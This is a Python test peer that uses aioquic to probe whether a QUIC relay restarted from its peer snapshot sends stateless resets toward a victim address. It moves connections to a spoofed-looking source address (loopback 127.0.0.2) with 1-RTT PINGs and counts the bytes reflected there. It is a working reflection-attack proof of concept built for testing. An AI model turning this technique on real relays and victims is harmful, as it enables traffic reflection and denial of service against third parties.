#!/usr/bin/env python3
"""Tries to make a relay restarted after a crash reflect its stateless resets toward a victim (issue 31, item 6).

A relay run with --peer-snapshot keeps its QUIC clients' addresses in a file and, restarted after a crash, sends
every connection ID listed there a stateless reset. If the file records an address a connection was only moved to,
one spoofed packet per connection puts a victim there.

1. --connections aioquic clients complete ordinary handshakes from the attacker's own address A.
2. For --spoof-seconds, each connection in turn (all of them once per --cycle seconds) sends one 1-RTT PING packet
   from the victim's address V (a UDP socket bound to --victim-host: 127.0.0.2 on loopback is another address), so
   the relay moves the connection to V and probes it there; V never answers. aioquic itself stays silent from A.
3. The socket at V counts every byte the relay sends it until the end.

Output, one JSON line each on stdout: once the handshakes are done, `listening on V:PORT` (V's address, so a test
can start this as a child server); after the spoofing, {"event": "spoofed", "bytes_from_victim",
"bytes_to_victim"}; on SIGUSR1, {"event": "mark", "bytes_to_victim"} (what V had received by then); on SIGINT or
SIGTERM, {"event": "done", "connections", "spoofs", "bytes_from_victim", "bytes_to_victim",
"datagrams_to_victim"}, then exit 0. Exits 1 with one line on stderr when it could not connect.
"""
import argparse
import asyncio
import contextlib
import json
import signal
import socket
import sys

from aioquic.asyncio import QuicConnectionProtocol, connect
from quic_peer_support import add_relay_arguments, client_configuration


def emit(record):
    print(json.dumps(record), flush=True)


async def run(args):
    loop = asyncio.get_running_loop()
    victim = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    victim.bind((args.victim_host, 0))
    victim.setblocking(False)
    counts = {"to": 0, "datagrams": 0, "from": 0, "spoofs": 0}

    def drain_victim():
        while True:
            try:
                data = victim.recv(65536)
            except BlockingIOError:
                return
            counts["to"] += len(data)
            counts["datagrams"] += 1

    loop.add_reader(victim.fileno(), drain_victim)
    finished = asyncio.Event()
    loop.add_signal_handler(signal.SIGINT, finished.set)
    loop.add_signal_handler(signal.SIGTERM, finished.set)

    def mark():
        drain_victim()
        emit({"event": "mark", "bytes_to_victim": counts["to"]})

    loop.add_signal_handler(signal.SIGUSR1, mark)
    async with contextlib.AsyncExitStack() as stack:
        senders = []
        for _ in range(args.connections):
            client = await stack.enter_async_context(
                connect(args.host, args.port, configuration=client_configuration(args),
                        create_protocol=QuicConnectionProtocol))
            await client.ping()
            senders.append(client)
        await asyncio.sleep(0.3)  # HANDSHAKE_DONE, NEW_CONNECTION_ID and acknowledgements settle
        silenced = []
        for client in senders:
            quic = client._quic
            silenced.append((quic, quic.datagrams_to_send))
            quic.datagrams_to_send = lambda now: []  # from here aioquic sends nothing from A
        emit_line = f"listening on {victim.getsockname()[0]}:{victim.getsockname()[1]}"
        print(emit_line, flush=True)

        spacing = args.cycle / max(1, len(silenced))
        deadline = loop.time() + args.spoof_seconds
        uid = 0
        while loop.time() < deadline and not finished.is_set():
            for quic, original in silenced:
                uid += 1
                quic.send_ping(uid)
                for data, _ in original(now=loop.time()):
                    victim.sendto(data, (args.host, args.port))
                    counts["from"] += len(data)
                counts["spoofs"] += 1
                await asyncio.sleep(spacing)
        drain_victim()
        emit({"event": "spoofed", "bytes_from_victim": counts["from"], "bytes_to_victim": counts["to"]})
        await finished.wait()
        drain_victim()
        loop.remove_reader(victim.fileno())
        emit({
            "event": "done", "connections": len(senders), "spoofs": counts["spoofs"],
            "bytes_from_victim": counts["from"], "bytes_to_victim": counts["to"],
            "datagrams_to_victim": counts["datagrams"],
        })
        # The relay may be gone: leaving the clients' contexts must not wait for their closes.
        for client in senders:
            client._closed.set()


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    add_relay_arguments(parser)
    parser.add_argument("--victim-host", default="127.0.0.2")
    parser.add_argument("--connections", type=int, default=20)
    parser.add_argument("--spoof-seconds", type=float, default=3.0)
    parser.add_argument("--cycle", type=float, default=1.0)
    args = parser.parse_args()
    try:
        asyncio.run(run(args))
    except Exception as error:  # one clear line, as every peer in this folder does
        print(f"quic_snapshot_reflector: {type(error).__name__}: {error}", file=sys.stderr)
        sys.exit(1)


if __name__ == "__main__":
    main()
